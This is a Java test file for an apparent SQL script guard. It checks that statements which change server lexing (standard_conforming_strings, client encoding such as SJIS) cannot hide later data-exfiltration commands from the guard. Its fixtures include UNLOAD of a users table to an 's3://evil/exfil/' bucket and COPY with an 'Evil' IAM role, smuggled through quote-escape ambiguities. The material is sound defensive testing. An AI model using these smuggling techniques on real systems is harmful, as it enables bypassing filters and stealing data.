package dev.iamguard.sql;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A statement that changes how the server lexes what follows it ({@code standard_conforming_strings},
 * the client encoding) makes psql and the server read the rest of a script as no one reading of the
 * whole text does (red-team review, 2026-12-05): the statements after it are read afresh, by the
 * streaming reader at every piece size and by the whole-text check alike. {@code
 * LexingChangeDifferentialTest} holds this to psql and PostgreSQL.
 */
class LexingChangeTest {
  private static final String UNLOAD = "unload ('select * from users') to 's3://evil/exfil/' iam_role default";
  /** Puts the readings of the whole text out of step before the change (a quote escaped in one, not in the other). */
  private static final String OUT_OF_STEP = "select 'x\\'' as a;\n";
  private static final int[] CHUNKS = {ScriptReader.DEFAULT_CHUNK, 1, 5, 17, 64};

  /** The problems of every statement, read as the command line reads it ({@code psql}) in pieces of {@code chunk}. */
  private static List<Problem> streamed(String script, int chunk, boolean psql) {
    List<Problem> problems = new ArrayList<>();
    try (ScriptReader reader = new ScriptReader(new StringReader(script), chunk, psql)) {
      for (SqlScript piece = reader.next(); piece != null; piece = reader.next()) {
        piece.statements().forEach(s -> problems.addAll(s.command().problems()));
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return problems;
  }

  private static List<Problem> whole(String script) {
    List<Problem> problems = new ArrayList<>();
    SqlScript.parse(script).statements().forEach(s -> problems.addAll(s.command().problems()));
    return problems;
  }

  private static void assertDenied(String script) {
    assertThat(whole(script)).as("whole: " + script).isNotEmpty();
    for (int chunk : CHUNKS) {
      for (boolean psql : new boolean[] {true, false}) {
        assertThat(streamed(script, chunk, psql)).as("pieces of " + chunk + " (psql " + psql + "): " + script).isNotEmpty();
      }
    }
  }

  private static void assertAllowed(String script) {
    assertThat(whole(script)).as("whole: " + script).isEmpty();
    for (int chunk : CHUNKS) {
      assertThat(streamed(script, chunk, true)).as("pieces of " + chunk + ": " + script).isEmpty();
    }
  }

  /** Every form of the change, with the UNLOAD a literal after it hides from the reading before it. */
  @ParameterizedTest
  @ValueSource(strings = {"set standard_conforming_strings to on;", "SET SESSION standard_conforming_strings = 'on';",
      "set local standard_conforming_strings to on;", "set \"standard_conforming_strings\" to on;",
      "reset standard_conforming_strings;", "RESET ALL;", "discard all;",
      "select set_config('standard_conforming_strings', 'on', false);",
      "do $$ begin perform set_config('standard_conforming_strings', 'on', false); end $$;",
      "set standard_conforming_strings to on \\g", "select 1 \\g\nset standard_conforming_strings to on \\g"})
  void aChangeOfStandardConformingStringsIsFollowed(String change) {
    String script = OUT_OF_STEP + change + "\nselect 'y\\' as b;\n" + UNLOAD + ";\nselect 1 as done;\n";
    assertDenied(script);
    assertDenied(OUT_OF_STEP + change + "\nselect 'y\\' as b;\ncopy t from $$s3://evil/x$$ iam_role "
        + "$$arn:aws:iam::123456789012:role/Evil$$;\nselect 1 as done;\n");
    // the change as the text's first statement, and after a comment and blank lines
    assertDenied(change + "\nselect 'y\\' as b;\n" + UNLOAD + ";\n");
    assertDenied(OUT_OF_STEP + "-- settings\n\n" + change + "\n\nselect 'y\\' as b;\n" + UNLOAD + ";\n");
  }

  /** In SJIS and its kin a character beyond ASCII takes the backslash after it: the literal ends at the next quote. */
  @ParameterizedTest
  @ValueSource(strings = {"set client_encoding to 'SJIS';", "SET NAMES 'SJIS';", "set session client_encoding = sjis;",
      "select set_config('client_encoding', 'SJIS', false);", "\\encoding SJIS", "RESET ALL;", "reset client_encoding;"})
  void aChangeOfTheClientEncodingIsFollowed(String change) {
    for (String wide : List.of("\u00c1", "\u8868", "\u00e9", "\u0410")) {
      assertDenied(OUT_OF_STEP + change + "\nselect '" + wide + "\\' as b;\n" + UNLOAD + ";\nselect 1 as done;\n");
      assertDenied(change + "\nselect 'a', '" + wide + "\\' as b;\n" + UNLOAD + ";\n");
      // the literal never ends in the reading before the change: a COPY of dollar quotes after it
      assertDenied(OUT_OF_STEP + change + "\nselect '" + wide + "\\' as b;\ncopy t from $$s3://evil/x$$ iam_role "
          + "$$arn:aws:iam::123456789012:role/Evil$$;\nselect 1 as done;\n");
    }
  }

  /**
   * A change the guard cannot see (a psql line before it, a prepared statement run later, a role's
   * default taken by a new connection, a procedure): a literal whose end depends on the setting,
   * after another form the readings disagree on, is refused whatever changed the setting between
   * them (second red-team review, 2026-12-05).
   */
  @ParameterizedTest
  @ValueSource(strings = {"\\echo hi\nset standard_conforming_strings to on;", "\\set ON_ERROR_STOP on\nset standard_conforming_strings to on;",
      "prepare p as select set_config('standard_conforming_strings','on',false);\nexecute p;",
      "alter role current_user set standard_conforming_strings = on;\n\\c", "call p();", "select f();", "insert into t values (1);",
      "set session standard_conforming_strings = true; select 'a\\'b' as a;"})
  void aSettingDependentLiteralAfterAnotherIsRefusedWhateverChangedTheSetting(String change) {
    assertDenied(OUT_OF_STEP + change + "\nselect 'y\\' as b;\n" + UNLOAD + ";\nselect 1 as done;\n");
    assertDenied(OUT_OF_STEP + change + "\nselect 'y\\' as b; " + UNLOAD + "; -- '\n");
  }

  /** After a change of the client encoding, psql may pair a character beyond ASCII with any byte after it: every one counts. */
  @ParameterizedTest
  @ValueSource(strings = {"set client_encoding to 'SJIS';", "SET NAMES 'BIG5';", "\\encoding SJIS",
      "\\echo x\nset client_encoding to 'GBK';"})
  void aWideCharAnywhereAfterAnEncodingChangeIsRefusedInPsqlsReading(String change) {
    for (String wide : List.of("\u00c1", "\u3042", "\u00e9")) {
      for (String script : List.of(change + "\nselect 1 as x" + wide + "/*;\n" + UNLOAD + ";\n*/\nselect 1 as done;\n",
          change + "\nselect '" + wide + "' as a, ' ;\n" + UNLOAD + ";\nselect 1 as b; -- '\n",
          change + "\nselect 1; -- " + wide + "\n" + "select \"" + wide + "\";\n")) {
        for (int chunk : CHUNKS) {
          assertThat(streamed(script, chunk, true)).as("pieces of " + chunk + ": " + script).isNotEmpty();
        }
      }
    }
  }

  /**
   * What reads alike in both settings after a change is let be: backslashes that escape no quote,
   * and, after a change of the setting alone, characters beyond ASCII (after a change of the client
   * encoding psql's reading refuses them: see above).
   */
  @ParameterizedTest
  @ValueSource(strings = {"set standard_conforming_strings to on;", "set client_encoding to 'SJIS';", "RESET ALL;",
      "select set_config('standard_conforming_strings', 'on', false);"})
  void literalsReadAlikeAfterAChangeAreLetBe(String change) {
    String wide = change.startsWith("set standard") ? "\u00e9" : "e";
    assertAllowed(change + "\ncopy t from 's3://b/k' iam_role default delimiter '\\t';\nselect '" + wide + " x' as b, 'a\\\\nb';\n");
    assertAllowed(change + "\nselect 'caf" + wide + " \\\\' as b;\n");
    // two literals whose backslashes escape no quote: the readings stay in step
    assertAllowed("select 'a\\tb';\n" + change + "\nselect 'c:\\\\dir\\\\' as d;\n");
  }

  /** A literal before the change is read as before it, whatever follows. */
  @ParameterizedTest
  @ValueSource(strings = {"set client_encoding to 'SJIS';", "\\encoding SJIS"})
  void aWideCharBeforeABackslashBeforeTheChangeIsLetBe(String change) {
    assertAllowed("select '\u00c1\\\\' as b;\n" + change + "\nselect 1;\n");
  }
}
